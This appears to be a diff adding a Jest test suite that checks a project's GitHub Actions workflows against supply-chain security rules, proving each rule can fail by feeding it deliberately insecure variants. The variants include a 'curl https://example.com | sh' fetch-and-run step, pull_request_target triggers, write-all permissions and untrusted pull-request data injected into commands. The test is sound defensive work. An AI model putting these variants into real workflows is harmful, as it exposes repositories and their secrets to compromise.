@@ -1,0 +1,241 @@
+import { execFileSync } from 'node:child_process';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, test } from '@jest/globals';
+import type { ParsedWorkflow, WorkflowText } from './support/parse-workflows.ts';
+import { ROOT } from './support/project.ts';
+import { workflowRules } from './support/workflow-rules.ts';
+
+const FOLDER = join(ROOT, '.github/workflows');
+const names = readdirSync(FOLDER).sort();
+const texts = names.map((name): WorkflowText => ({ name, text: readFileSync(join(FOLDER, name), 'utf8') }));
+
+const scripts = new Set(
+  Object.keys((JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { scripts: object }).scripts),
+);
+
+type Rule = keyof typeof workflowRules;
+const rules = Object.keys(workflowRules) as Rule[];
+
+/** What a rule says against a workflow with one part of it replaced, so that the rule is seen to be able to fail. */
+interface Breach {
+  readonly rule: Rule;
+  readonly breach: string;
+  readonly of: string;
+  readonly from: string | RegExp;
+  readonly to: string;
+}
+
+const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1';
+
+const breaches: readonly Breach[] = [
+  { rule: 'is valid for GitHub', breach: 'an unknown key', of: 'ci.yml', from: 'runs-on', to: 'run-on' },
+  {
+    rule: 'is valid for GitHub',
+    breach: 'an unknown context',
+    of: 'ci.yml',
+    from: 'github.ref }}',
+    to: 'gitub.ref }}',
+  },
+  { rule: 'is valid for GitHub', breach: 'no YAML', of: 'ci.yml', from: 'jobs:', to: 'jobs: [' },
+  {
+    rule: 'pins every action to a full commit, with the version in a comment',
+    breach: 'a tag',
+    of: 'ci.yml',
+    from: `${CHECKOUT} # v7.0.1`,
+    to: 'actions/checkout@v7',
+  },
+  {
+    rule: 'pins every action to a full commit, with the version in a comment',
+    breach: 'no version',
+    of: 'ci.yml',
+    from: `${CHECKOUT} # v7.0.1`,
+    to: CHECKOUT,
+  },
+  {
+    rule: 'runs one command that anyone can run, with nothing put into it',
+    breach: 'event data',
+    of: 'contribution-check.yml',
+    from: '--checkout pull-request',
+    to: '--author ${{ github.event.pull_request.user.login }}',
+  },
+  {
+    rule: 'runs one command that anyone can run, with nothing put into it',
+    breach: 'a script in YAML',
+    of: 'contribution-check.yml',
+    from: 'npm ci',
+    to: 'npm ci && curl https://example.com | sh',
+  },
+  {
+    rule: 'runs one command that anyone can run, with nothing put into it',
+    breach: 'a script that is not there',
+    of: 'contribution-report.yml',
+    from: 'run report-contribution',
+    to: 'run report-contributions',
+  },
+  {
+    rule: 'keeps no credentials in a checkout',
+    breach: 'kept',
+    of: 'contribution-check.yml',
+    from: 'persist-credentials: false',
+    to: 'persist-credentials: true',
+  },
+  {
+    rule: 'keeps no credentials in a checkout',
+    breach: 'not told',
+    of: 'scorecard.yml',
+    from: / +with:\n +persist-credentials: false\n/,
+    to: '',
+  },
+  {
+    rule: 'never runs on pull_request_target, nor on chosen paths',
+    breach: 'pull_request_target',
+    of: 'contribution-check.yml',
+    from: 'pull_request:',
+    to: 'pull_request_target:',
+  },
+  {
+    rule: 'never runs on pull_request_target, nor on chosen paths',
+    breach: 'in a list',
+    of: 'contribution-check.yml',
+    from: /on:\n(.*\n){3}/,
+    to: 'on: [push, pull_request_target]\n',
+  },
+  {
+    rule: 'never runs on pull_request_target, nor on chosen paths',
+    breach: 'paths',
+    of: 'contribution-check.yml',
+    from: 'types: [opened, synchronize, reopened, edited]',
+    to: "paths: ['contributions/**']",
+  },
+  {
+    rule: 'gives no permission by default, and each job its own with a reason',
+    breach: 'none at the top',
+    of: 'ci.yml',
+    from: 'permissions: {}\n',
+    to: '',
+  },
+  {
+    rule: 'gives no permission by default, and each job its own with a reason',
+    breach: 'no reason',
+    of: 'contribution-report.yml',
+    from: / # to set the commit.*/,
+    to: '',
+  },
+  {
+    rule: 'gives no permission by default, and each job its own with a reason',
+    breach: 'everything',
+    of: 'ci.yml',
+    from: /permissions:\n.*contents: read.*\n/,
+    to: 'permissions: write-all # because\n',
+  },
+  {
+    rule: 'gives no permission by default, and each job its own with a reason',
+    breach: 'none in a job',
+    of: 'ci.yml',
+    from: /permissions:\n.*contents: read.*\n/,
+    to: '',
+  },
+  {
+    rule: 'has a concurrency group, and a timeout for every job',
+    breach: 'no timeout',
+    of: 'codeql.yml',
+    from: /timeout-minutes:.*\n/,
+    to: '',
+  },
+  {
+    rule: 'has a concurrency group, and a timeout for every job',
+    breach: 'no group',
+    of: 'codeql.yml',
+    from: /concurrency:\n.*\n.*\n/,
+    to: '',
+  },
+  {
+    rule: 'touches nothing of a pull request in a job that may write',
+    breach: 'checks out the head',
+    of: 'contribution-report.yml',
+    from: 'persist-credentials: false',
+    to: 'persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}',
+  },
+  {
+    rule: 'touches nothing of a pull request in a job that may write',
+    breach: 'checks out the fork',
+    of: 'contribution-report.yml',
+    from: 'persist-credentials: false',
+    to: 'persist-credentials: false\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}',
+  },
+  {
+    rule: 'touches nothing of a pull request in a job that may write',
+    breach: 'downloads an artifact',
+    of: 'contribution-report.yml',
+    from: '- run: npm ci',
+    to: '- uses: actions/download-artifact@9000827ccba6bdab643e8b6fd33ac0654aef8333 # v8.0.2\n      - run: npm ci',
+  },
+  {
+    rule: 'touches nothing of a pull request in a job that may write',
+    breach: 'hands over a name',
+    of: 'contribution-report.yml',
+    from: 'env:\n',
+    to: 'env:\n          BRANCH: ${{ github.event.workflow_run.head_branch }}\n',
+  },
+  {
+    rule: 'touches nothing of a pull request in a job that may write',
+    breach: 'writes on pull_request',
+    of: 'ci.yml',
+    from: 'contents: read',
+    to: 'contents: write',
+  },
+];
+
+const worse = breaches.map(({ of, from, to }): WorkflowText => {
+  const text = texts.find(({ name }) => name === of)?.text ?? '';
+  return { name: of, text: text.replace(from, () => to) };
+});
+
+let parsed: readonly ParsedWorkflow[] = [];
+
+beforeAll(() => {
+  const input = JSON.stringify([...texts, ...worse]);
+  const output = execFileSync(process.execPath, ['--import', 'tsx', join(ROOT, 'test/support/parse-workflows.ts')], {
+    cwd: ROOT,
+    input,
+    maxBuffer: 1e8,
+  });
+  parsed = JSON.parse(output.toString('utf8')) as ParsedWorkflow[];
+});
+
+/** What the rule says against the workflow at `index` of all that were parsed. */
+function against(rule: Rule, index: number): string[] {
+  const workflow = parsed[index];
+  if (workflow === undefined) throw new Error(`Nothing was parsed at ${index}`);
+  return workflowRules[rule](workflow, scripts);
+}
+
+describe.each(names.map((name, index) => ({ name, index })))('$name', ({ index }) => {
+  test.each(rules)('%s', (rule) => {
+    expect(against(rule, index)).toEqual([]);
+  });
+});
+
+describe('each of these rules can fail', () => {
+  test.each(breaches.map((breach, index) => ({ ...breach, index })))('$rule: $breach', ({ rule, of, index }) => {
+    expect(worse[index]?.text).not.toBe(texts.find(({ name }) => name === of)?.text);
+    expect(against(rule, names.length + index)).not.toEqual([]);
+  });
+
+  test('none is without a breach', () => {
+    expect([...new Set(breaches.map(({ rule }) => rule))].sort()).toEqual([...rules].sort());
+  });
+});
+
+test('the workflows are the ones that SECURITY.md tells of', () => {
+  const told = [...readFileSync(join(ROOT, 'SECURITY.md'), 'utf8').matchAll(/^\| `([\w-]+\.yml)`/gm)].map((m) => m[1]);
+  expect(told.sort()).toEqual(names);
+});
+
+test('the report waits for the check by its name', () => {
+  const content = (name: string): unknown => parsed[names.indexOf(name)]?.content;
+  expect(content('contribution-report.yml')).toMatchObject({
+    on: { workflow_run: { workflows: [(content('contribution-check.yml') as { name: string }).name] } },
+  });
+});
